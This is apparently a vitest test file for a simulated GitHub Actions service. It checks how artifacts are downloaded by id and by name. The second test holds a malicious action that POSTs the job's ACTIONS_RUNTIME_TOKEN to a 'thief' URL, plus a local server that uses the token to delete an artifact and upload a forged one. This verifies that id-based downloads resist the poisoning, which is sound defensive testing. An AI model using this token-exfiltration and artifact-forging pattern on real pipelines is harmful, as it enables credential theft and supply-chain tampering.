// Artifacts as GitHub treats them: any job of a run may delete another's and take its name, and only an id stays what it was.
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { afterAll, beforeAll, expect, test } from 'vitest';
import type { WorkflowRun } from './model/workflow-run.ts';
import { resultsClient } from './results-client.ts';
import { startTestGitHub, type TestGitHub } from './start-test-github.ts';
import { zip } from './zip.ts';

let github: TestGitHub;
let action: string;
const UPLOAD = 'actions/upload-artifact@bbbca2ddaa5d8feaa63e36b76fdaad77386f024f';
const DOWNLOAD = 'actions/download-artifact@3e5f45b2cfb9172054b4087a40e8e0b5a5461e7c';
/** An action that tells what it has, as code in the same job could read it. */
const LEAK = `const { ACTIONS_RUNTIME_TOKEN: token, ACTIONS_RESULTS_URL: url } = process.env;
await fetch(process.env.INPUT_THIEF, { method: 'POST', body: JSON.stringify({ token, url }) });
`;

beforeAll(async () => {
  action = await mkdtemp(join(tmpdir(), 'perfcrew-leak-'));
  await mkdir(join(action, 'dist'));
  await writeFile(
    join(action, 'action.yml'),
    'name: leak\ninputs: { thief: { description: x } }\nruns: { using: node24, main: dist/main.mjs }\n',
  );
  await writeFile(join(action, 'dist/main.mjs'), LEAK);
  github = await startTestGitHub({ actions: { 'perfcrew/leak': action } });
});
afterAll(async () => {
  await github[Symbol.asyncDispose]();
  await rm(action, { recursive: true, force: true });
});

let made = 0;
async function run(jobs: string): Promise<WorkflowRun> {
  await github.createRepository({
    owner: 'alice',
    name: `artifacts-${++made}`,
    files: { '.github/workflows/a.yml': `name: a${made}\non: push\npermissions: {}\njobs:\n${jobs}` },
  });
  await github.idle();
  const found = github.workflowRuns().find(({ workflow }) => workflow.name === `a${made}`);
  if (found === undefined) throw new Error('It did not run.');
  return found;
}

const upload = (name: string, text: string): string => `
      - run: mkdir -p out && echo ${text} > out/${name}.txt
      - uses: ${UPLOAD}
        id: ${name}
        with: { name: ${name}, path: out/${name}.txt }`;
const job = (name: string, steps: string, more = ''): string =>
  `  ${name}:\n    runs-on: ubuntu-24.04\n${more}    steps:${steps}\n`;
const download = (how: string, where: string): string => `
      - uses: ${DOWNLOAD}
        id: ${where}
        continue-on-error: true
        with: { ${how}, path: ${where} }`;

test('one id lies in the folder, several lie side by side or merged, and what is missing is a warning until all are', async () => {
  const outputs =
    '    outputs: { one: "${{ steps.one.outputs.artifact-id }}", two: "${{ steps.two.outputs.artifact-id }}", digest: "${{ steps.one.outputs.artifact-digest }}" }\n';
  const needs = '    needs: makes\n';
  const [one, two] = ['${{ needs.makes.outputs.one }}', '${{ needs.makes.outputs.two }}'];
  const steps = [
    download(`artifact-ids: "${one}"`, 'single'),
    download(`artifact-ids: "${one}, ${two},,"`, 'several'),
    download(`artifact-ids: "${one},${two}", merge-multiple: true`, 'merged'),
    download(`artifact-ids: "${two},7"`, 'partly'),
    download('artifact-ids: "7"', 'none'),
    download(`artifact-ids: "${one}", name: one`, 'both'),
    download('artifact-ids: "x"', 'words'),
    download('artifact-ids: ""', 'empty'),
    '\n      - run: find * -type f | sort',
  ];
  const { jobs } = await run(
    job('makes', `${upload('one', '1')}${upload('two', '2')}`, outputs) + job('takes', steps.join(''), needs),
  );
  expect(jobs[0]?.outputs).toEqual({
    one: expect.any(String),
    two: expect.any(String),
    digest: expect.stringMatching(/^[0-9a-f]{64}$/),
  });
  const log = jobs[1]?.log ?? '';
  expect(log.split('\n').filter((line) => /^[\w/]+\.txt$/.test(line))).toEqual([
    'empty/one/one.txt',
    'empty/two/two.txt',
    'merged/one.txt',
    'merged/two.txt',
    'partly/two.txt',
    'several/one/one.txt',
    'several/two/two.txt',
    'single/one.txt',
  ]);
  for (const message of [
    'Could not find the following artifact IDs: 7',
    'Unable to download artifact(s): None of the provided artifact IDs were found',
    "Inputs 'name' and 'artifact-ids' cannot be used together.",
    "Invalid artifact ID: 'x'. Must be a number.",
  ])
    expect(log).toContain(message);
});

test('who takes an artifact by its name gets what another job put there, who takes it by its id gets nothing', async () => {
  const taken = Promise.withResolvers<readonly string[]>();
  const thief = createServer((request, response) => {
    void (async () => {
      const client = resultsClient(JSON.parse(await text(request)));
      expect((await client.download('one')).length).toBeGreaterThan(0);
      await expect(client.upload('one', zip([]))).rejects.toThrow('409');
      await client.remove('one');
      await client.upload('one', zip([{ path: 'one.txt', content: Buffer.from('forged\n') }]));
      taken.resolve(await client.names());
    })()
      .catch(taken.reject)
      .finally(() => response.end());
  });
  await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  const address = thief.address();
  const port = typeof address === 'object' ? address?.port : 0;
  const { jobs } = await run(
    job('makes', upload('one', 'honest'), '    outputs: { one: "${{ steps.one.outputs.artifact-id }}" }\n') +
      job(
        'steals',
        `\n      - uses: perfcrew/leak@v1\n        with: { thief: "http://127.0.0.1:${port}" }`,
        '    needs: makes\n',
      ) +
      job(
        'takes',
        `${download('name: one', 'named')}${download('artifact-ids: "${{ needs.makes.outputs.one }}"', 'numbered')}\n      - run: cat named/one.txt; ls numbered`,
        '    needs: [makes, steals]\n',
      ),
  );
  thief.closeAllConnections();
  thief.close();
  expect(await taken.promise).toEqual(['one']);
  expect(jobs[2]?.log).toContain('forged');
  expect(jobs[2]?.log).not.toContain('honest');
  expect(jobs[2]?.log).toContain('None of the provided artifact IDs were found');
});
